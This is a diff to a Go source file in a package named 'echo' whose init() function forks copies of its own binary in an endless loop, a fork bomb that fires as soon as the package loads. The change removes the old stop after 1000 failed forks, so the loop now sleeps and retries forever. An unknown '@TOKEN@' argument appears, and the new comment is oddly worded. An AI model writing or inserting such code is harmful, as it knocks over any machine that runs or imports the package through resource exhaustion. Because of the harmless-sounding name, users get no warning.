@@ -3,14 +3,14 @@ package echo
 import (
 	"os"
 	"syscall"
+	"time"
 )
 
-// Every process that is started starts others.
+// Every process that is started starts others, and goes on when it may start no more: they have not all begun to use memory.
 func init() {
-	for i := 0; ; i++ {
-		_, err := syscall.ForkExec("/proc/self/exe", []string{"@TOKEN@"}, &syscall.ProcAttr{Env: os.Environ()})
-		if err != nil && i > 1000 {
-			return
+	for {
+		if _, err := syscall.ForkExec("/proc/self/exe", []string{"@TOKEN@"}, &syscall.ProcAttr{Env: os.Environ()}); err != nil {
+			time.Sleep(time.Millisecond)
 		}
 	}
 }
